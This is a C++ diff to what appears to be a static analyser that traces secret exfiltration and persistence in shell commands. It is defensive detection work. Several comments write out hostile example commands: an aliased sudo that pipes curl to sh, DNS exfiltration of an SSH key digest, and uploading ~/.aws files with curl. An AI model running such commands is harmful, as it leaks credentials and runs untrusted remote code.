@@ -150,6 +150,66 @@ TarLayout tar_layout(const std::vector<Word>& argv) {
   return layout;
 }
 
+// The text a sed script inserts, appends or puts in place of lines (`1i TEXT`, `$a\\TEXT`, `/re/c TEXT`).
+std::string sed_inserted_text(const std::string& script) {
+  std::string out;
+  size_t start = 0;
+  while (start < script.size()) {
+    size_t end = script.find('\n', start);
+    std::string line = script.substr(start, end == std::string::npos ? std::string::npos : end - start);
+    start = end == std::string::npos ? script.size() : end + 1;
+    size_t i = 0;
+    // Address: line numbers, $, /regex/, and a range of them.
+    for (int part = 0; part < 2 && i < line.size(); ++part) {
+      if (line[i] == '/') {
+        size_t close = line.find('/', i + 1);
+        if (close == std::string::npos) break;
+        i = close + 1;
+      } else {
+        while (i < line.size() && (std::isdigit(static_cast<unsigned char>(line[i])) || line[i] == '$')) ++i;
+      }
+      if (i < line.size() && line[i] == ',') ++i;
+      else break;
+    }
+    while (i < line.size() && line[i] == ' ') ++i;
+    if (i >= line.size() || (line[i] != 'i' && line[i] != 'a' && line[i] != 'c')) continue;
+    ++i;
+    if (i < line.size() && line[i] == '\\') ++i;
+    while (i < line.size() && (line[i] == ' ' || line[i] == '\t')) ++i;
+    out += line.substr(i) + "\n";
+  }
+  return out;
+}
+
+// An awk program that prints every input line as it is.
+bool prints_whole_lines(std::string program) {
+  program.erase(std::remove_if(program.begin(), program.end(), [](char c) { return c == ' ' || c == '\t' || c == ';'; }),
+                program.end());
+  return program == "1" || program == "{print}" || program == "{print$0}" || program == "//" || program == "NF" ||
+         program == "{print$0}1" || program.empty();
+}
+
+// A pattern that names secret-looking data (KEY, TOKEN …): what it keeps is the secret part.
+bool names_secret(const std::string& pattern) {
+  std::string upper = pattern;
+  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
+  for (std::string_view part : {"KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED", "AWS", "PRIVATE", "SESSION", "COOKIE"})
+    if (upper.find(part) != std::string::npos) return true;
+  return false;
+}
+
+// Where `login` sits in a container registry login (docker login, podman login, helm registry login …).
+std::optional<size_t> registry_login_index(const std::string& name, const std::vector<std::string>& args) {
+  static const std::set<std::string_view> clients{"docker", "podman", "nerdctl", "buildah", "skopeo", "oras", "crane",
+                                                  "helm", "regctl"};
+  if (!clients.count(name)) return std::nullopt;
+  for (size_t i = 0; i < args.size() && i < 3; ++i) {
+    if (args[i] == "login") return i + 1;  // argv index: args start at argv[1]
+    if (args[i] != "registry" && (args[i].empty() || args[i][0] != '-')) return std::nullopt;
+  }
+  return std::nullopt;
+}
+
 }  // namespace
 
 void Walker::emit_secret_flows(const Taints& taints, std::string_view to, const std::string& sink,
@@ -233,8 +293,18 @@ void Walker::record_file_change(const std::string& path, const Stream& content, 
   files.push_back(std::move(change));
 }
 
+// A directory named by `git config core.hooksPath DIR` holds hooks git runs, like .git/hooks.
+bool Walker::in_hooks_directory(const std::string& path) const {
+  std::string normal = path.rfind("./", 0) == 0 ? path.substr(2) : path;
+  size_t slash = normal.find_last_of('/');
+  if (slash == std::string::npos) return false;
+  std::string directory = normal.substr(0, slash);
+  return std::find(hooks_dirs_.begin(), hooks_dirs_.end(), directory) != hooks_dirs_.end();
+}
+
 void Walker::check_persistence(const std::string& path, const Stream& content, Span span, int depth) {
   auto kind = persistence_kind(path);
+  if (!kind && in_hooks_directory(path)) kind = "git_hook";
   if (!kind) return;
   add_marker("persistence_write", std::string(*kind), span);
   Taints taints = content.taint;
@@ -270,7 +340,21 @@ void Walker::analyse_payload(const std::string& text, std::string_view kind, con
   Facts* saved = facts_;
   facts_ = &scratch;
   auto saved_files = files_;
+  auto saved_aliases = aliases_;
+  auto saved_functions = functions_;
   analyse_nested(script, Stream{}, "persist", span, "persist", depth);
+  // An rc file's aliases and functions run whenever their names are typed: `alias sudo='curl … | sh; sudo'`.
+  std::vector<std::string> defined;
+  for (const auto& [name, body] : aliases_) {
+    auto before = saved_aliases.find(name);
+    if (before == saved_aliases.end() || before->second != body) defined.push_back(name);
+  }
+  for (const auto& [name, function] : functions_)
+    if (!saved_functions.count(name)) defined.push_back(name);
+  for (size_t k = 0; k < defined.size() && k < 16; ++k)
+    analyse_nested(defined[k], Stream{}, "persist", span, "persist", depth);
+  aliases_ = std::move(saved_aliases);
+  functions_ = std::move(saved_functions);
   files_ = std::move(saved_files);
   facts_ = saved;
   for (const auto& inner : scratch.flows) {
@@ -321,6 +405,40 @@ void Walker::persisted_network_client(const Facts& scratch, const std::string& p
     flow.span = span;
     add_flow(std::move(flow));
     return;
+  }
+}
+
+std::vector<std::pair<std::string, std::optional<Walker::Variable>>> Walker::bind_positionals(
+    const std::vector<Word>& argv, size_t first) {
+  std::vector<std::pair<std::string, std::optional<Variable>>> saved;
+  Word all;
+  for (size_t n = 1; n <= 9; ++n) {
+    std::string name = std::to_string(n);
+    auto found = variables_.find(name);
+    saved.emplace_back(name, found == variables_.end() ? std::nullopt : std::optional<Variable>(found->second));
+    size_t index = first + n - 1;
+    if (index < argv.size()) {
+      variables_[name] = Variable{argv[index], {}};
+      all.text += (all.text.empty() ? "" : " ") + argv[index].text;
+      all.dynamic = all.dynamic || argv[index].dynamic;
+      merge_taints(all.taint, argv[index].taint);
+    } else {
+      variables_.erase(name);
+    }
+  }
+  for (std::string name : {"@", "*"}) {
+    auto found = variables_.find(name);
+    saved.emplace_back(name, found == variables_.end() ? std::nullopt : std::optional<Variable>(found->second));
+    if (first < argv.size()) variables_[name] = Variable{all, {}};
+    else variables_.erase(name);
+  }
+  return saved;
+}
+
+void Walker::restore_positionals(std::vector<std::pair<std::string, std::optional<Variable>>> saved) {
+  for (auto& [name, value] : saved) {
+    if (value) variables_[name] = std::move(*value);
+    else variables_.erase(name);
   }
 }
 
@@ -426,7 +544,9 @@ Stream Walker::run(Invocation inv, const Stream& in, int depth) {
       frame_.anchor = saved.anchor;
     }
     context_.push_back("function");
+    auto saved_positionals = bind_positionals(inv.argv, 1);
     Stream out = walk(function->second.body, in, depth + 1);
+    restore_positionals(std::move(saved_positionals));
     context_.pop_back();
     frame_ = saved;
     active_functions_.erase(inv.name);
@@ -582,7 +702,22 @@ Stream Walker::model(Invocation& inv, const Stream& in, int depth) {
       if (script.stream->literal) return analyse_nested(*script.stream->literal, in, "source", inv.span, name, depth);
       return {};
     }
+    if (script.text == "/dev/stdin" || script.text == "/proc/self/fd/0") {
+      // source /dev/stdin <<< "$(curl …)": the shell runs what arrives on stdin.
+      Invocation reader = inv;
+      reader.argv.resize(1);
+      reader.name = "sh";
+      return model_shell(reader, in, depth);
+    }
     return run_script_file(inv, script.text, in, depth, "source");
+  }
+  if (name == "script") {
+    // script -qc 'COMMAND' LOGFILE runs COMMAND through a shell, recording its terminal.
+    ParsedArgs parsed = parse_args(inv.argv, 1, "cEIOTt", {"--command", "--log-io", "--log-in", "--log-out", "--echo"});
+    if (const Option* command = parsed.find({"-c", "--command"}); command && command->word > 0)
+      return analyse_nested(script_text(inv.argv[static_cast<size_t>(command->word)], depth), in, "shell_string",
+                            inv.span, name, depth);
+    return {};
   }
   if (is_shell(name) || name == "su") return model_shell(inv, in, depth);
   std::string family = interpreter_family(name);
@@ -603,6 +738,10 @@ Stream Walker::model(Invocation& inv, const Stream& in, int depth) {
     return model_network(inv, in);
   }
   if (is_dns_tool(name)) return model_dns(inv);
+  if (auto login = registry_login_index(name, args)) {
+    model_registry_login(inv, *login + 1, in);
+    return {};
+  }
   if (name == "find") return model_find(inv, in, depth);
   if (name == "git") {
     model_git(inv, depth);
@@ -630,6 +769,19 @@ Stream Walker::model(Invocation& inv, const Stream& in, int depth) {
     return analyse_nested(text, in, name, inv.span, name, depth);
   }
   if (name == "crontab") return model_crontab(inv, in, depth);
+  if ((name == "npm" || name == "pnpm" || name == "yarn") && args.size() >= 3 && args[0] == "pkg" && args[1] == "set") {
+    // npm pkg set scripts.postinstall="…": a lifecycle script runs on every install.
+    static const std::set<std::string_view> lifecycle{"preinstall", "install", "postinstall", "prepare", "prepublish",
+                                                       "prepack", "postpack", "dependencies"};
+    for (size_t k = 2; k < args.size(); ++k) {
+      const std::string& setting = args[k];
+      size_t equals = setting.find('=');
+      if (setting.rfind("scripts.", 0) != 0 || equals == std::string::npos) continue;
+      if (!lifecycle.count(std::string_view(setting).substr(8, equals - 8))) continue;
+      analyse_payload(setting.substr(equals + 1), "npm_script", "package.json " + setting.substr(0, equals), inv.span, depth);
+    }
+    return {};
+  }
   if (name == "cp" || name == "mv" || name == "install" || name == "ln" || name == "rsync") return model_copy(inv);
   if (name == "tee") {
     bool append = false;
@@ -653,10 +805,26 @@ Stream Walker::model(Invocation& inv, const Stream& in, int depth) {
     bool in_place = false;
     for (const auto& arg : args)
       if (starts_with(arg, "-i") || arg == "--in-place" || starts_with(arg, "--in-place=")) in_place = true;
-    if (in_place)
-      for (size_t i = 1; i < inv.argv.size(); ++i)
-        if (auto kind = persistence_kind(inv.argv[i].text)) add_marker("persistence_write", std::string(*kind), inv.span);
-    if (in_place) return {};
+    if (in_place) {
+      ParsedArgs parsed = parse_args(inv.argv, 1, "ef", {"--expression", "--file"});
+      std::vector<std::string> scripts;
+      for (const auto& option : parsed.options)
+        if (option.name == "-e" || option.name == "--expression") scripts.push_back(option.value);
+      size_t first_file = 0;
+      if (scripts.empty() && !parsed.positionals.empty()) scripts.push_back(inv.argv[parsed.positionals[0]].text), first_file = 1;
+      std::string inserted;
+      for (const auto& script : scripts) inserted += sed_inserted_text(script);
+      for (size_t k = first_file; k < parsed.positionals.size(); ++k) {
+        const std::string& path = inv.argv[parsed.positionals[k]].text;
+        Stream content;
+        if (!inserted.empty()) content.literal = inserted;
+        if (auto kind = persistence_kind(path)) {
+          add_marker("persistence_write", std::string(*kind), inv.span);
+          if (content.literal && *kind != "authorized_keys") analyse_payload(*content.literal, *kind, path, inv.span, depth);
+        }
+      }
+      return {};
+    }
   }
   if (name == "chmod") {
     bool executable = false;
@@ -745,9 +913,31 @@ Stream Walker::model_echo(Invocation& inv) {
   return out;
 }
 
+// A digest of a secret identifies it and, cut into DNS labels, carries it out: `dig $(md5sum ~/.ssh/id_rsa
+// | cut -c1-30).x.example`. Its labels go on, marked filtered, since a digest printed is no leak by itself.
+Stream Walker::model_digest(Invocation& inv, const Stream& in) {
+  Stream out;
+  bool named_file = false;
+  for (size_t i = 1; i < inv.argv.size(); ++i) {
+    const std::string& arg = inv.argv[i].text;
+    if (arg.empty() || (arg[0] == '-' && arg != "-")) continue;
+    if (arg == "-") {
+      merge_taints(out.taint, in.taint);
+    } else {
+      named_file = true;
+      merge_taints(out.taint, read_path(arg, nullptr));
+    }
+  }
+  if (!named_file) merge_taints(out.taint, in.taint);
+  add_via(out.taint, "digest");
+  for (auto& taint : out.taint) taint.filtered = true;
+  return out;
+}
+
 Stream Walker::model_readers(Invocation& inv, const Stream& in) {
   const std::string& name = inv.name;
   Stream out;
+  if (is_digest(name)) return model_digest(inv, in);
   if (is_summariser(name)) return out;
   bool filter = is_selective_filter(name);
   std::string_view values;
@@ -762,11 +952,13 @@ Stream Walker::model_readers(Invocation& inv, const Stream& in) {
   else if (name == "openssl") values = "";
   else if (name == "sort") values = "tko";
   else if (name == "xxd") values = "lcgs";
+  else if (interpreter_family(name) == "awk") values = "vFf";
   ParsedArgs parsed = parse_args(inv.argv, 1, values, long_values);
   bool pattern_from_option = parsed.has({"-e", "-f", "--regexp", "--file", "--expression"});
   size_t skip_positionals = 0;
   if ((filter || name == "sed" || name == "jq" || name == "yq") && !pattern_from_option) skip_positionals = 1;
   if (name == "tr") skip_positionals = 2;
+  if (interpreter_family(name) == "awk" && !parsed.has({"-f", "--file"})) skip_positionals = 1;
   if (name == "openssl") skip_positionals = 1;
 
   if (filter) {
@@ -807,6 +999,12 @@ Stream Walker::model_readers(Invocation& inv, const Stream& in) {
     reads_stdin = files.empty();
   }
   if (is_file_reader(name) || name == "tar" || name == "openssl" || name == "dd") {
+    // cat <(env): a process substitution names a stream, not a file on disk.
+    for (size_t k = skip_positionals; k < parsed.positionals.size(); ++k)
+      if (const auto& stream = inv.argv[parsed.positionals[k]].stream) {
+        merge_taints(out.taint, stream->taint);
+        if (stream->literal && name == "cat") out.literal = out.literal.value_or("") + *stream->literal;
+      }
     for (const auto& path : files) {
       if (path == "-") continue;
       std::optional<std::string> literal;
@@ -1159,6 +1357,41 @@ Stream Walker::model_network(Invocation& inv, const Stream& in) {
   return out;
 }
 
+// `docker login REGISTRY -p "$TOKEN"` and `echo "$TOKEN" | docker login REGISTRY --password-stdin` hand the
+// secret to REGISTRY (Docker Hub when none is named): a network sink like curl's -u.
+void Walker::model_registry_login(Invocation& inv, size_t first, const Stream& in) {
+  ParsedArgs parsed = parse_args(inv.argv, first, "up", {"--username", "--password", "--password-file"});
+  std::string host = "docker.io";
+  if (!parsed.positionals.empty()) {
+    const std::string& registry = inv.argv[parsed.positionals.front()].text;
+    host = is_url(registry) ? host_of(registry) : lower(registry.substr(0, registry.find('/')));
+  }
+  add_host(host);
+  Taints sent;
+  for (const auto& option : parsed.options) {
+    if (option.word < 0) continue;
+    if (option.name == "--password-file") merge_taints(sent, read_path(option.value, nullptr));
+    Taints taints = inv.argv[static_cast<size_t>(option.word)].taint;
+    add_via(taints, "argument");
+    merge_taints(sent, taints);
+  }
+  for (size_t index : parsed.positionals) {
+    Taints taints = inv.argv[index].taint;
+    add_via(taints, "argument");
+    merge_taints(sent, taints);
+  }
+  if (parsed.has({"--password-stdin"})) {
+    Taints piped = in.taint;
+    add_via(piped, "pipe");
+    merge_taints(sent, piped);
+  }
+  // A helper's token piped into a login (`aws ecr get-login-password | docker login …`, `gh auth token | …`)
+  // is judged like a token variable: by whether the registry is that token's home.
+  for (auto& taint : sent)
+    if (taint.from == "credential_helper") taint.from = "secret_var";
+  emit_secret_flows(sent, "network", inv.name + " login", host, inv.span, "");
+}
+
 Stream Walker::model_dns(Invocation& inv) {
   for (size_t i = 1; i < inv.argv.size(); ++i) {
     const Word& word = inv.argv[i];
@@ -1226,7 +1459,10 @@ Stream Walker::model_shell(Invocation& inv, const Stream& in, int depth) {
     add_via(taints, "argument");
     for (auto& taint : taints)
       if (taint.from == "network") emit_secret_flows({taint}, "exec", name, "", inv.span, "", true);
+    // sh -c 'curl -d @"$1" …' _ FILE: the words after the script are $0, $1 …
+    auto saved_positionals = bind_positionals(inv.argv, i + 2);
     out = analyse_nested(script_text(script, depth), in, "shell_string", inv.span, name, depth);
+    restore_positionals(std::move(saved_positionals));
     out.interactive_shell = out.interactive_shell || interactive;
     return out;
   }
@@ -1415,6 +1651,10 @@ Stream Walker::model_awk(Invocation& inv, const Stream& in, int depth) {
     if (reading.network) emit_secret_flows(out.taint, "network", "awk", "", inv.span, "");
   }
   Stream read = model_readers(inv, in);
+  // Like grep: a program that picks lines or fields keeps part of the data (filtered), unless it prints
+  // whole lines (`awk 1`) or picks secret-looking ones (`/TOKEN/`).
+  if (!program_from_file && !prints_whole_lines(program) && !names_secret(program))
+    for (auto& taint : read.taint) taint.filtered = true;
   merge_taints(out.taint, read.taint);
   return out;
 }
@@ -1473,8 +1713,10 @@ Stream Walker::model_find(Invocation& inv, const Stream& in, int depth) {
     if (found == "{}" && classify_path(root) == PathClass::credential) found = root + "/id_rsa";
   if (found == "{}" && !roots.empty() && visits_root_unfiltered(inv.argv, i)) found = roots.front();
   Stream out;
+  bool has_action = false;
   for (; i < inv.argv.size(); ++i) {
     const std::string& action = inv.argv[i].text;
+    if (action == "-delete" || action == "-fprint" || action == "-fls") has_action = true;
     if (action != "-exec" && action != "-execdir" && action != "-ok" && action != "-okdir") continue;
     Invocation inner;
     inner.span = inv.span;
@@ -1489,7 +1731,10 @@ Stream Walker::model_find(Invocation& inv, const Stream& in, int depth) {
     }
     i = k;
     if (!inner.argv.empty()) merge_stream(out, run(std::move(inner), Stream{}, depth + 1));
+    has_action = true;
   }
+  // Without an action find prints what it found: `find ~/.aws -type f | xargs -I{} curl -T {} …`.
+  if (!has_action && found != "{}") out.literal = found + "\n";
   return out;
 }
 
@@ -1616,6 +1861,48 @@ Stream Walker::model_crontab(Invocation& inv, const Stream& in, int depth) {
   return {};
 }
 
+// `git config [--global] KEY VALUE` stores a setting that runs later: a shell command (core.fsmonitor,
+// core.sshCommand, alias.x=!…) is a persisted payload, and core.hooksPath makes a directory's files hooks.
+void Walker::model_git_config(const std::vector<std::string>& rest, Span span, int depth) {
+  std::vector<std::string> operands;
+  for (size_t i = 0; i < rest.size(); ++i) {
+    if (rest[i] == "--file" || rest[i] == "-f" || rest[i] == "--blob" || rest[i] == "--type") {
+      ++i;
+      continue;
+    }
+    if (!rest[i].empty() && rest[i][0] == '-') continue;
+    operands.push_back(rest[i]);
+  }
+  if (operands.size() < 2) return;
+  std::string key = lower(operands[0]);
+  const std::string& value = operands[1];
+  if (value.empty()) return;
+  if (key == "core.hookspath") {
+    std::string directory = value.rfind("./", 0) == 0 ? value.substr(2) : value;
+    while (directory.size() > 1 && directory.back() == '/') directory.pop_back();
+    hooks_dirs_.push_back(directory);
+    // Hooks written before the setting: their content now runs on every commit, push or checkout.
+    std::vector<std::pair<std::string, FileState>> hooks;
+    for (const auto& [path, file] : files_)
+      if (in_hooks_directory(path)) hooks.emplace_back(path, file);
+    for (const auto& [path, file] : hooks) {
+      Stream content;
+      content.taint = file.taint;
+      content.literal = file.literal;
+      check_persistence(path, content, span, depth);
+    }
+    return;
+  }
+  bool runs = key == "core.sshcommand" || key == "core.pager" || key == "core.editor" || key == "core.fsmonitor" ||
+              key == "sequence.editor" || key == "diff.external" || key == "core.askpass" ||
+              key.rfind("pager.", 0) == 0 || key.rfind("credential", 0) == 0 ||
+              (key.rfind("alias.", 0) == 0 && value[0] == '!') ||
+              (key.rfind("filter.", 0) == 0 && (key.size() > 6 && (key.find(".clean") != std::string::npos ||
+                                                                   key.find(".smudge") != std::string::npos ||
+                                                                   key.find(".process") != std::string::npos)));
+  if (runs) analyse_payload(value[0] == '!' ? value.substr(1) : value, "git_config", "git config " + key, span, depth);
+}
+
 void Walker::model_git(Invocation& inv, int depth) {
   std::vector<std::string> args;
   for (size_t i = 1; i < inv.argv.size(); ++i) args.push_back(inv.argv[i].text);
@@ -1657,6 +1944,7 @@ void Walker::model_git(Invocation& inv, int depth) {
   for (const auto& arg : rest)
     if (!arg.empty() && arg[0] != '-') operands.push_back(arg);
   std::string destination_host;  // where push/clone/fetch/pull talk to, when a URL or known remote says
+  if (command == "config") model_git_config(rest, inv.span, depth);
   if (command == "add") {
     // Staged secret files travel with the next push.
     for (const auto& operand : operands) merge_taints(git_staged_secrets_, read_path(operand, nullptr));
